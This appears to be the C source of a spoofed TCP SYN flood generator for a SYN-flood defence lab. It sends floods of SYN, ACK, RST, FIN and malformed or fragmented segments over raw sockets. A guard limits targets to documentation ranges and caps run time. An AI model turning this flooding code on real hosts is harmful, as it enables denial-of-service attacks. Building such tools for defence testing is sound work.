/*
 * synflood — spoofed TCP SYN flood generator for synguard's namespace labs.
 *
 * Valid SYNs (correct IP and TCP checksums, a Linux-like option set) from random
 * sources of a benchmark range, or with -f other segments of no connection
 * (ACK, RST, FIN, SYN+ACK: random sequence and acknowledgment numbers, the
 * timestamp option; -f syn,rst,...: the kinds named, in turn; -f all: every
 * kind in turn; and broken SYNs: badsum, a wrong TCP checksum; short, a
 * data offset past the segment's end; frag, a valid SYN in two IP
 * fragments, two packets), sent through a
 * header-including raw socket with
 * sendmmsg.  -P LO-HI limits the source ports (default 1024-65535): with -s
 * the lab attacker's own address, segments aimed at its real connections.
 * A safety guard refuses destinations outside the documentation ranges and
 * sources outside 198.18.0.0/15 and 2001:db8:ff00::/40 (and the lab
 * attacker's link, 198.51.100.0/24 and 2001:db8:2::/48), and every run is
 * bounded in time (default 5 s, at most 120 s). SIGTERM/SIGINT end it early,
 * still printing the summary.
 */
#ifndef _GNU_SOURCE
#define _GNU_SOURCE
#endif
#include <arpa/inet.h>
#include <errno.h>
#include <limits.h>
#include <netinet/in.h>
#include <sched.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/random.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#define MAX_BATCH 1024
#define MAX_SECONDS 120.0
#define TCP_HLEN 40 /* 20 bytes of header + 20 bytes of options */
#define IP4_HLEN 20
#define IP6_HLEN 40
#define PKT_MAX (IP6_HLEN + TCP_HLEN)

static volatile sig_atomic_t stop;

static void on_signal(int sig)
{
	(void)sig;
	stop = 1;
}

struct cidr {
	int family;
	uint8_t addr[16];
	int plen;
};

struct flood {
	struct cidr src;
	struct cidr dst; /* plen = full length */
	uint16_t port;
	double rate;     /* packets per second, 0 = unpaced */
	double seconds;
	uint64_t count;  /* 0 = unlimited */
	int batch;
	uint8_t kindv[9]; /* -f: indices in kinds[] sent in turn (default syn) */
	unsigned nkinds;
	uint8_t frag2[PKT_MAX]; /* a frag SYN's second fragment, sent next */
	size_t frag2_len;
	uint16_t sport_lo, sport_n; /* source ports: sport_lo + [0, sport_n) */
	unsigned next;   /* the index in kindv of the next packet's kind */
	uint64_t rng;
};

enum breakage { WHOLE, BADSUM, SHORT, FRAG };

/* -f's names, their TCP flags and how they are broken; -f all: the
 * first NKINDS_ALL. */
static const struct { const char *name; uint8_t flags; enum breakage how; } kinds[] = {
	{ "syn", 0x02, WHOLE }, { "ack", 0x10, WHOLE }, { "rst", 0x04, WHOLE },
	{ "rstack", 0x14, WHOLE }, { "fin", 0x11, WHOLE }, { "synack", 0x12, WHOLE },
	{ "badsum", 0x02, BADSUM }, { "short", 0x02, SHORT }, { "frag", 0x02, FRAG },
};
#define NKINDS (sizeof(kinds) / sizeof(kinds[0]))
#define NKINDS_ALL 6
#define KINDS_HELP "a comma-separated list of syn, ack, rst, rstack, fin, synack, badsum, short, frag; or all"

/* Ranges the guard allows. Destinations: documentation ranges (RFC 5737, 3849). */
static const char *const dst_allowed[] = {
	"192.0.2.0/24", "198.51.100.0/24", "203.0.113.0/24", "2001:db8::/32",
};
/* Sources: RFC 2544 benchmark range and the project's IPv6 spoof block; and
 * the lab attacker's own link (documentation ranges, RFC 5737, 3849), for
 * segments aimed at real connections of the attacker ns (-s ADDR -P LO-HI). */
static const char *const src_allowed[] = {
	"198.18.0.0/15", "2001:db8:ff00::/40", "198.51.100.0/24", "2001:db8:2::/48",
};

static void usage(void)
{
	fprintf(stderr, "usage: synflood -d DSTADDR -p PORT [-s SRC_CIDR] [-P SPORT_LO-HI] [-r PPS] "
		"[-t SECONDS] [-n COUNT] [-b BATCH] [-f KIND[,KIND...]|all]\n"
		"  KIND: syn ack rst rstack fin synack (all: these), badsum short frag\n");
	exit(2);
}

static void die(const char *what)
{
	fprintf(stderr, "synflood: %s\n", what);
	exit(1);
}

/* -f KIND[,KIND...] or all: the kinds sent in turn, each at most once. */
static void parse_kinds(struct flood *f, const char *arg)
{
	char buf[64], *save = NULL, *tok;

	f->nkinds = 0;
	if (strcmp(arg, "all") == 0) {
		for (size_t k = 0; k < NKINDS_ALL; k++)
			f->kindv[f->nkinds++] = (uint8_t)k;
		return;
	}
	if (strlen(arg) >= sizeof(buf))
		die("-f: too long (" KINDS_HELP ")");
	strcpy(buf, arg);
	for (tok = strtok_r(buf, ",", &save); tok; tok = strtok_r(NULL, ",", &save)) {
		size_t k, j;

		for (k = 0; k < NKINDS; k++)
			if (strcmp(tok, kinds[k].name) == 0)
				break;
		if (k == NKINDS)
			die("-f: unknown segment kind (" KINDS_HELP ")");
		for (j = 0; j < f->nkinds; j++)
			if (f->kindv[j] == k)
				die("-f: a kind named twice");
		f->kindv[f->nkinds++] = (uint8_t)k;
	}
	if (!f->nkinds)
		die("-f: no segment kind");
}

static int cidr_parse(const char *text, struct cidr *c)
{
	char buf[INET6_ADDRSTRLEN + 8];
	char *slash, *end;
	long plen;

	if (strlen(text) >= sizeof(buf))
		return -1;
	strcpy(buf, text);
	slash = strchr(buf, '/');
	if (slash)
		*slash = '\0';
	memset(c, 0, sizeof(*c));
	if (inet_pton(AF_INET, buf, c->addr) == 1) {
		c->family = AF_INET;
		c->plen = 32;
	} else if (inet_pton(AF_INET6, buf, c->addr) == 1) {
		c->family = AF_INET6;
		c->plen = 128;
	} else {
		return -1;
	}
	if (!slash)
		return 0;
	errno = 0;
	plen = strtol(slash + 1, &end, 10);
	if (errno || *end || end == slash + 1 || plen < 0 || plen > c->plen)
		return -1;
	c->plen = (int)plen;
	return 0;
}

/* True if every address of inner lies inside outer. */
static int cidr_within(const struct cidr *inner, const struct cidr *outer)
{
	int full = outer->plen / 8, rest = outer->plen % 8;

	if (inner->family != outer->family || inner->plen < outer->plen)
		return 0;
	if (memcmp(inner->addr, outer->addr, (size_t)full) != 0)
		return 0;
	if (rest) {
		uint8_t mask = (uint8_t)(0xff << (8 - rest));
		if ((inner->addr[full] & mask) != (outer->addr[full] & mask))
			return 0;
	}
	return 1;
}

static int cidr_allowed(const struct cidr *c, const char *const *list, size_t n)
{
	struct cidr range;

	for (size_t i = 0; i < n; i++)
		if (cidr_parse(list[i], &range) == 0 && cidr_within(c, &range))
			return 1;
	return 0;
}

static double parse_num(const char *text, double lo, double hi, const char *name)
{
	char *end;
	double v;

	errno = 0;
	v = strtod(text, &end);
	if (errno || *end || end == text || !(v >= lo && v <= hi)) {
		fprintf(stderr, "synflood: %s '%s' out of range [%g, %g]\n", name, text, lo, hi);
		exit(2);
	}
	return v;
}

static double now_sec(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return (double)ts.tv_sec + (double)ts.tv_nsec / 1e9;
}

static void sleep_until(double t)
{
	struct timespec ts;

	ts.tv_sec = (time_t)t;
	ts.tv_nsec = (long)((t - (double)ts.tv_sec) * 1e9);
	while (clock_nanosleep(CLOCK_MONOTONIC, TIMER_ABSTIME, &ts, NULL) == EINTR && !stop)
		;
}

/* xorshift64*: plenty for addresses, ports and ISNs, and a few ns per call. */
static uint64_t rng_next(uint64_t *s)
{
	uint64_t x = *s;

	x ^= x >> 12;
	x ^= x << 25;
	x ^= x >> 27;
	*s = x;
	return x * 0x2545F4914F6CDD1DULL;
}

static uint32_t csum_add(uint32_t sum, const void *data, size_t len)
{
	const uint8_t *p = data;

	for (size_t i = 0; i + 1 < len; i += 2)
		sum += (uint32_t)(p[i] << 8 | p[i + 1]);
	if (len & 1)
		sum += (uint32_t)(p[len - 1] << 8);
	return sum;
}

static uint16_t csum_fold(uint32_t sum)
{
	while (sum >> 16)
		sum = (sum & 0xffff) + (sum >> 16);
	return (uint16_t)~sum;
}

static void put16(uint8_t *p, uint16_t v)
{
	p[0] = (uint8_t)(v >> 8);
	p[1] = (uint8_t)v;
}

static void put32(uint8_t *p, uint32_t v)
{
	put16(p, (uint16_t)(v >> 16));
	put16(p + 2, (uint16_t)v);
}

/* Random address inside the source CIDR. */
static void src_random(struct flood *f, uint8_t *out)
{
	int alen = f->src.family == AF_INET ? 4 : 16;
	uint64_t r[2] = { rng_next(&f->rng), rng_next(&f->rng) };
	const uint8_t *rb = (const uint8_t *)r;

	for (int i = 0; i < alen; i++) {
		int bits = f->src.plen - i * 8; /* prefix bits in this byte */
		uint8_t mask = bits >= 8 ? 0xff : bits <= 0 ? 0 : (uint8_t)(0xff << (8 - bits));
		out[i] = (uint8_t)((f->src.addr[i] & mask) | (rb[i] & ~mask));
	}
}

/* TCP SYN header with the option set Linux sends: MSS, SACK-permitted,
 * timestamps, NOP, window scale 7; another kind of segment (-f) has a
 * random acknowledgment number where it carries ACK and only the
 * timestamps (NOP-padded); -f all sends every kind in turn, one packet
 * each.  Checksum left zero. */
static void tcp_fill(struct flood *f, uint8_t *t, uint16_t mss, uint8_t flags)
{
	static const uint8_t opts_tmpl[20] = {
		2, 4, 0, 0, 4, 2, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 3, 3, 7,
	};
	static const uint8_t opts_ts[20] = {
		1, 1, 8, 10, 0, 0, 0, 0, 0, 0, 0, 0, 1, 1, 1, 1, 1, 1, 1, 1,
	};
	uint64_t r = rng_next(&f->rng);

	if (flags != 0x02) {
		memset(t, 0, 20);
		put16(t, (uint16_t)(f->sport_lo + (r % f->sport_n)));
		put16(t + 2, f->port);
		put32(t + 4, (uint32_t)(r >> 32));
		if (flags & 0x10)
			put32(t + 8, (uint32_t)rng_next(&f->rng));
		t[12] = (TCP_HLEN / 4) << 4;
		t[13] = flags;
		put16(t + 14, 502);
		memcpy(t + 20, opts_ts, sizeof(opts_ts));
		put32(t + 24, (uint32_t)rng_next(&f->rng)); /* TSval */
		put32(t + 28, (uint32_t)rng_next(&f->rng)); /* TSecr */
		return;
	}

	memset(t, 0, 20);
	put16(t, (uint16_t)(f->sport_lo + (r % f->sport_n))); /* default 1024..65535 */
	put16(t + 2, f->port);
	put32(t + 4, (uint32_t)(r >> 32));          /* ISN */
	t[12] = (TCP_HLEN / 4) << 4;
	t[13] = 0x02;                               /* SYN */
	put16(t + 14, 64240);
	memcpy(t + 20, opts_tmpl, sizeof(opts_tmpl));
	put16(t + 22, mss);
	put32(t + 28, (uint32_t)rng_next(&f->rng)); /* TSval; TSecr stays 0 */
}

/* The next kind in turn. */
static unsigned next_kind(struct flood *f)
{
	unsigned k = f->kindv[f->next];

	f->next = (f->next + 1) % f->nkinds;
	return k;
}

/* Breaks a whole segment t of TCP_HLEN bytes, checksum set, as kind k says
 * (badsum, short); frag is the caller's. */
static void tcp_break(uint8_t *t, enum breakage how)
{
	if (how == BADSUM)
		t[17] ^= 0x55;
	else if (how == SHORT)
		t[12] = 15 << 4;	/* 60 bytes of header in a 40-byte segment */
}

/* IP fragments carry 8-byte units: the first FRAG1 bytes of the segment,
 * then the rest. */
#define FRAG1 24

static size_t build_v4(struct flood *f, uint8_t *p)
{
	uint8_t *t = p + IP4_HLEN;
	unsigned k = next_kind(f);
	uint32_t sum;

	memset(p, 0, IP4_HLEN);
	p[0] = 0x45;
	put16(p + 2, IP4_HLEN + TCP_HLEN);
	put16(p + 4, (uint16_t)(rng_next(&f->rng) | 1)); /* id 0 would be replaced */
	p[6] = 0x40;                                        /* DF */
	p[8] = 64;
	p[9] = IPPROTO_TCP;
	src_random(f, p + 12);
	memcpy(p + 16, f->dst.addr, 4);
	put16(p + 10, csum_fold(csum_add(0, p, IP4_HLEN)));

	tcp_fill(f, t, 1460, kinds[k].flags);
	sum = csum_add(0, p + 12, 8) + IPPROTO_TCP + TCP_HLEN;
	put16(t + 16, csum_fold(csum_add(sum, t, TCP_HLEN)));
	tcp_break(t, kinds[k].how);
	if (kinds[k].how != FRAG)
		return IP4_HLEN + TCP_HLEN;
	/* Second fragment: the same header, offset FRAG1 / 8, no MF. */
	memcpy(f->frag2, p, IP4_HLEN);
	memcpy(f->frag2 + IP4_HLEN, t + FRAG1, TCP_HLEN - FRAG1);
	put16(f->frag2 + 2, IP4_HLEN + TCP_HLEN - FRAG1);
	put16(f->frag2 + 6, FRAG1 / 8);
	put16(f->frag2 + 10, 0);
	put16(f->frag2 + 10, csum_fold(csum_add(0, f->frag2, IP4_HLEN)));
	f->frag2_len = IP4_HLEN + TCP_HLEN - FRAG1;
	/* First: MF, offset 0. */
	put16(p + 2, IP4_HLEN + FRAG1);
	put16(p + 6, 0x2000);
	put16(p + 10, 0);
	put16(p + 10, csum_fold(csum_add(0, p, IP4_HLEN)));
	return IP4_HLEN + FRAG1;
}

#define FRAG6_HLEN 8

static size_t build_v6(struct flood *f, uint8_t *p)
{
	uint8_t *t = p + IP6_HLEN;
	unsigned k = next_kind(f);
	uint32_t sum, id;

	memset(p, 0, 8);
	p[0] = 0x60;
	put16(p + 4, TCP_HLEN);
	p[6] = IPPROTO_TCP;
	p[7] = 64;
	src_random(f, p + 8);
	memcpy(p + 24, f->dst.addr, 16);

	tcp_fill(f, t, 1440, kinds[k].flags); /* 1500-byte MTU minus 60: what Linux sends over IPv6 */
	sum = csum_add(0, p + 8, 32) + IPPROTO_TCP + TCP_HLEN;
	put16(t + 16, csum_fold(csum_add(sum, t, TCP_HLEN)));
	tcp_break(t, kinds[k].how);
	if (kinds[k].how != FRAG)
		return IP6_HLEN + TCP_HLEN;
	/* A fragment header (RFC 8200 4.5) after the fixed header in both. */
	id = (uint32_t)rng_next(&f->rng);
	memcpy(f->frag2, p, IP6_HLEN);
	f->frag2[6] = 44;
	put16(f->frag2 + 4, FRAG6_HLEN + TCP_HLEN - FRAG1);
	memset(f->frag2 + IP6_HLEN, 0, FRAG6_HLEN);
	f->frag2[IP6_HLEN] = IPPROTO_TCP;
	put16(f->frag2 + IP6_HLEN + 2, FRAG1);		/* offset FRAG1 / 8 in bits 15-3, M = 0 */
	put32(f->frag2 + IP6_HLEN + 4, id);
	memcpy(f->frag2 + IP6_HLEN + FRAG6_HLEN, t + FRAG1, TCP_HLEN - FRAG1);
	f->frag2_len = IP6_HLEN + FRAG6_HLEN + TCP_HLEN - FRAG1;
	memmove(t + FRAG6_HLEN, t, FRAG1);
	memset(t, 0, FRAG6_HLEN);
	t[0] = IPPROTO_TCP;
	put16(t + 2, 1);				/* offset 0, M = 1 */
	put32(t + 4, id);
	p[6] = 44;
	put16(p + 4, FRAG6_HLEN + FRAG1);
	return IP6_HLEN + FRAG6_HLEN + FRAG1;
}

static int raw_open(const struct flood *f)
{
	struct sockaddr_storage ss;
	socklen_t sl;
	int fd, one = 1;

	memset(&ss, 0, sizeof(ss));
	if (f->dst.family == AF_INET) {
		struct sockaddr_in *sin = (struct sockaddr_in *)&ss;
		sin->sin_family = AF_INET;
		memcpy(&sin->sin_addr, f->dst.addr, 4);
		sl = sizeof(*sin);
	} else {
		struct sockaddr_in6 *sin6 = (struct sockaddr_in6 *)&ss;
		sin6->sin6_family = AF_INET6;
		memcpy(&sin6->sin6_addr, f->dst.addr, 16);
		sl = sizeof(*sin6);
	}
	fd = socket(f->dst.family, SOCK_RAW, IPPROTO_RAW);
	if (fd < 0) {
		perror("synflood: socket(SOCK_RAW, IPPROTO_RAW)");
		exit(1);
	}
	/* IPPROTO_RAW implies header inclusion for both families; say it anyway. */
	if (f->dst.family == AF_INET)
		setsockopt(fd, IPPROTO_IP, IP_HDRINCL, &one, sizeof(one));
	else
		setsockopt(fd, IPPROTO_IPV6, IPV6_HDRINCL, &one, sizeof(one));
	/* connect() so sendmmsg needs no per-message address. */
	if (connect(fd, (struct sockaddr *)&ss, sl) < 0) {
		perror("synflood: connect");
		exit(1);
	}
	return fd;
}

static void parse_args(int argc, char **argv, struct flood *f)
{
	const char *dst = NULL, *src = NULL;
	int c;

	memset(f, 0, sizeof(*f));
	f->seconds = 5;
	f->batch = 64;
	f->kindv[0] = 0; /* syn */
	f->nkinds = 1;
	f->sport_lo = 1024;
	f->sport_n = 64512;
	while ((c = getopt(argc, argv, "d:p:s:P:r:t:n:b:f:h")) != -1) {
		switch (c) {
		case 'd': dst = optarg; break;
		case 'p': f->port = (uint16_t)parse_num(optarg, 1, 65535, "port"); break;
		case 's': src = optarg; break;
		case 'P': {
			char *dash = strchr(optarg, '-');
			double lo, hi;

			if (!dash)
				die("-P: a source port range LO-HI");
			*dash = 0;
			lo = parse_num(optarg, 1, 65535, "source port");
			hi = parse_num(dash + 1, lo, 65535, "source port");
			f->sport_lo = (uint16_t)lo;
			f->sport_n = (uint16_t)(hi - lo + 1);
			break;
		}
		case 'r': f->rate = parse_num(optarg, 0, 1e8, "rate"); break;
		case 't': f->seconds = parse_num(optarg, 0.001, MAX_SECONDS, "seconds"); break;
		case 'n': f->count = (uint64_t)parse_num(optarg, 1, 1e12, "count"); break;
		case 'b': f->batch = (int)parse_num(optarg, 1, MAX_BATCH, "batch"); break;
		case 'f':
			parse_kinds(f, optarg);
			break;
		default: usage();
		}
	}
	if (!dst || !f->port || optind != argc)
		usage();
	if (cidr_parse(dst, &f->dst) < 0 || strchr(dst, '/'))
		die("destination must be a plain IPv4 or IPv6 address");
	if (!cidr_allowed(&f->dst, dst_allowed, 4))
		die("refusing destination outside 192.0.2.0/24, 198.51.100.0/24, "
		    "203.0.113.0/24, 2001:db8::/32");
	if (!src)
		src = src_allowed[f->dst.family == AF_INET ? 0 : 1];
	if (cidr_parse(src, &f->src) < 0)
		die("bad source CIDR");
	if (f->src.family != f->dst.family)
		die("source CIDR and destination differ in address family");
	if (!cidr_allowed(&f->src, src_allowed, 4))
		die("refusing source CIDR outside 198.18.0.0/15, 2001:db8:ff00::/40, "
		    "198.51.100.0/24, 2001:db8:2::/48");
}

struct result {
	uint64_t sent, errors;
	double elapsed;
};

/* Sends n prepared messages, retrying ENOBUFS/EAGAIN until done or past the
 * deadline. Returns the number sent. */
static int send_batch(int fd, struct mmsghdr *msgs, int n, double deadline, struct result *r)
{
	int done = 0, stalls = 0;

	while (done < n && !stop) {
		int k = sendmmsg(fd, msgs + done, (unsigned)(n - done), 0);
		if (k < 0) {
			if (errno == EINTR)
				continue;
			if (errno != ENOBUFS && errno != EAGAIN) {
				perror("synflood: sendmmsg");
				exit(1);
			}
			r->errors++;
			if (++stalls % 16 == 0) {
				sched_yield(); /* let the softirq side drain */
				if (now_sec() >= deadline)
					break;
			}
			continue;
		}
		if (done + k < n)
			r->errors++; /* the message after the last one sent failed */
		done += k;
	}
	return done;
}

static void flood_run(struct flood *f, int fd, struct result *r)
{
	static uint8_t bufs[MAX_BATCH][PKT_MAX];
	static struct iovec iov[MAX_BATCH];
	static struct mmsghdr msgs[MAX_BATCH];
	double start = now_sec(), deadline = start + f->seconds, now = start;
	int batch = f->batch;

	if (f->rate > 0 && f->rate / 1000 < batch) /* pace in ~1 ms slices */
		batch = f->rate >= 1000 ? (int)(f->rate / 1000) : 1;
	for (int i = 0; i < MAX_BATCH; i++) {
		iov[i].iov_base = bufs[i];
		msgs[i].msg_hdr.msg_iov = &iov[i];
		msgs[i].msg_hdr.msg_iovlen = 1;
	}
	memset(r, 0, sizeof(*r));
	while (now < deadline && !stop && (!f->count || r->sent < f->count)) {
		int n = batch;
		if (f->count && f->count - r->sent < (uint64_t)n)
			n = (int)(f->count - r->sent);
		if (f->rate > 0) {
			double due = start + (double)r->sent / f->rate;
			if (due > now) {
				sleep_until(due < deadline ? due : deadline);
				if (now_sec() >= deadline || stop)
					break;
			}
		}
		for (int i = 0; i < n; i++) {
			if (f->frag2_len) {	/* the second fragment of the last */
				memcpy(bufs[i], f->frag2, f->frag2_len);
				iov[i].iov_len = f->frag2_len;
				f->frag2_len = 0;
				continue;
			}
			iov[i].iov_len = f->dst.family == AF_INET ? build_v4(f, bufs[i])
								  : build_v6(f, bufs[i]);
		}
		r->sent += (uint64_t)send_batch(fd, msgs, n, deadline, r);
		now = now_sec();
	}
	r->elapsed = now - start;
}

int main(int argc, char **argv)
{
	struct flood f;
	struct result r;
	struct sigaction sa;
	int fd;

	parse_args(argc, argv, &f);
	if (getrandom(&f.rng, sizeof(f.rng), 0) != sizeof(f.rng))
		die("getrandom failed");
	f.rng |= 1; /* xorshift state must never be zero */
	memset(&sa, 0, sizeof(sa));
	sa.sa_handler = on_signal; /* no SA_RESTART: a blocked send returns EINTR */
	sigaction(SIGTERM, &sa, NULL);
	sigaction(SIGINT, &sa, NULL);
	fd = raw_open(&f);
	flood_run(&f, fd, &r);
	close(fd);
	printf("synflood: sent %llu packets in %.3f s (%.0f pps), %llu send errors\n",
	       (unsigned long long)r.sent, r.elapsed,
	       r.elapsed > 0 ? (double)r.sent / r.elapsed : 0.0,
	       (unsigned long long)r.errors);
	return 0;
}
